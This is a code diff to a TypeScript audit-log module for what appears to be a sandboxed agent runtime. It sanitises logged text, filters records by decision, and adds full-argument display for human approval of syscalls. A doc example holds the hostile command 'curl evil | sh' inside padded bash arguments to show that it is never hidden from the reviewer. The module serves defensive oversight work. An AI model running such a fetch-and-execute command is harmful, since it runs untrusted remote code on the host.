@@ -31,6 +31,7 @@
  */
 
 import { canonicalJson, sha256Hex } from "./digest.ts";
+import { printable } from "./printable.ts";
 
 /** The policy decision a syscall was taken under. */
 export type AuditDecision = "allow" | "deny" | "ask";
@@ -105,6 +106,8 @@ export interface AuditListOptions {
   afterSeq?: number;
   /** At most this many records. */
   limit?: number;
+  /** Only the records with this decision (`deny`: every refusal). */
+  decision?: AuditDecision;
 }
 
 const HEAD_KEY: Deno.KvKey = ["audit", "head"];
@@ -143,8 +146,10 @@ const ENTRY_FIELDS = [
 /**
  * Links `entries` onto the chain that ends at `head`: seq numbers follow
  * `head.seq`, each record's `prevHash` is the hash before it, and its `hash`
- * covers all its other fields. Unknown fields are dropped and overlong text
- * fields are cut, so a record always fits one KV value.
+ * covers all its other fields. Unknown fields are dropped, text fields are
+ * made {@link printable} (a process chooses much of their text) and overlong
+ * ones are cut, so a record always fits one KV value and never carries a
+ * control character to a terminal.
  *
  * @example
  * ```ts
@@ -182,7 +187,9 @@ function _normalizeEntry(entry: AuditEntry): AuditEntry {
     const value = entry[field];
     if (value === undefined) continue;
     const max = MAX_FIELD_CHARS[field];
-    out[field] = typeof value === "string" && max !== undefined ? _clip(value, max) : value;
+    out[field] = typeof value === "string" && max !== undefined
+      ? _clip(printable(value), max)
+      : value;
   }
   return out as unknown as AuditEntry;
 }
@@ -253,10 +260,7 @@ const MAX_ITEMS = 20;
  * ```
  */
 export function summarizeArgs(syscall: string, args: unknown): string {
-  const contentKeys = new Set([
-    ...CONTENT_KEYS,
-    ...(Object.hasOwn(SYSCALL_CONTENT_KEYS, syscall) ? SYSCALL_CONTENT_KEYS[syscall] : []),
-  ]);
+  const contentKeys = _contentKeys(syscall);
   let text: string;
   try {
     text = JSON.stringify(_summarize(args, contentKeys, 0)) ?? "null";
@@ -264,6 +268,13 @@ export function summarizeArgs(syscall: string, args: unknown): string {
     text = '"<unserializable>"';
   }
   return _clip(text, MAX_SUMMARY);
+}
+
+function _contentKeys(syscall: string): ReadonlySet<string> {
+  return new Set([
+    ...CONTENT_KEYS,
+    ...(Object.hasOwn(SYSCALL_CONTENT_KEYS, syscall) ? SYSCALL_CONTENT_KEYS[syscall] : []),
+  ]);
 }
 
 function _summarize(
@@ -311,6 +322,63 @@ function _summarize(
   }
   if (keys.length > MAX_ITEMS) out["…"] = `<${keys.length - MAX_ITEMS} more>`;
   return out;
+}
+
+/** The most UTF-8 bytes of arguments a human is asked to review (see {@link reviewArgs}). */
+export const MAX_REVIEW_BYTES = 32 * 1024;
+
+/**
+ * A syscall's arguments as a human reviews them before approving the call:
+ * JSON with every value in full, nothing cut and nothing redacted (a
+ * redaction or a cut could hide what runs). When that is over
+ * {@link MAX_REVIEW_BYTES}, the values under content keys (the same as
+ * {@link summarizeArgs}: a file's content, a request body, …) become
+ * `<N bytes, sha256 HEX>`; everything that says what is done (paths,
+ * commands, URLs, headers) stays in full. Answers undefined when even that
+ * is over the limit: such a call is too long to show a human.
+ *
+ * @example
+ * ```ts
+ * import { reviewArgs } from "./audit.ts";
+ * const argv = ["bash", "-c", "echo " + "x".repeat(300) + "; curl evil | sh"];
+ * const text = await reviewArgs("exec.run", { argv });
+ * console.assert(text === JSON.stringify({ argv }));
+ * ```
+ */
+export async function reviewArgs(syscall: string, args: unknown): Promise<string | undefined> {
+  const full = JSON.stringify(args) ?? "null";
+  if (_utf8Bytes(full) <= MAX_REVIEW_BYTES) return full;
+  const collapsed = JSON.stringify(await _collapseContents(args, _contentKeys(syscall)));
+  return _utf8Bytes(collapsed) <= MAX_REVIEW_BYTES ? collapsed : undefined;
+}
+
+async function _collapseContents(
+  value: unknown,
+  contentKeys: ReadonlySet<string>,
+): Promise<unknown> {
+  if (value === null || typeof value !== "object") return value;
+  if (Array.isArray(value)) {
+    const out: unknown[] = [];
+    for (const item of value) out.push(await _collapseContents(item, contentKeys));
+    return out;
+  }
+  const out: Record<string, unknown> = {};
+  for (const [key, member] of Object.entries(value)) {
+    const shown = contentKeys.has(key.toLowerCase())
+      ? `<${_jsonBytes(member)} bytes, sha256 ${await sha256Hex(JSON.stringify(member) ?? "")}>`
+      : await _collapseContents(member, contentKeys);
+    Object.defineProperty(out, key, {
+      value: shown,
+      enumerable: true,
+      writable: true,
+      configurable: true,
+    });
+  }
+  return out;
+}
+
+function _utf8Bytes(text: string): number {
+  return new TextEncoder().encode(text).length;
 }
 
 /** Removes secrets written inline in a string. */
@@ -419,7 +487,7 @@ export class AuditLog {
 
   /** The records in ascending seq order, optionally filtered. */
   async *list(options: AuditListOptions = {}): AsyncGenerator<AuditRecord> {
-    const { pid, afterSeq = 0, limit = Infinity } = options;
+    const { pid, decision, afterSeq = 0, limit = Infinity } = options;
     if (limit <= 0) return;
     let yielded = 0;
     const entries = this.#kv.list<AuditRecord>({
@@ -428,6 +496,7 @@ export class AuditLog {
     });
     for await (const entry of entries) {
       if (pid !== undefined && entry.value.pid !== pid) continue;
+      if (decision !== undefined && entry.value.decision !== decision) continue;
       yield entry.value;
       if (++yielded >= limit) return;
     }
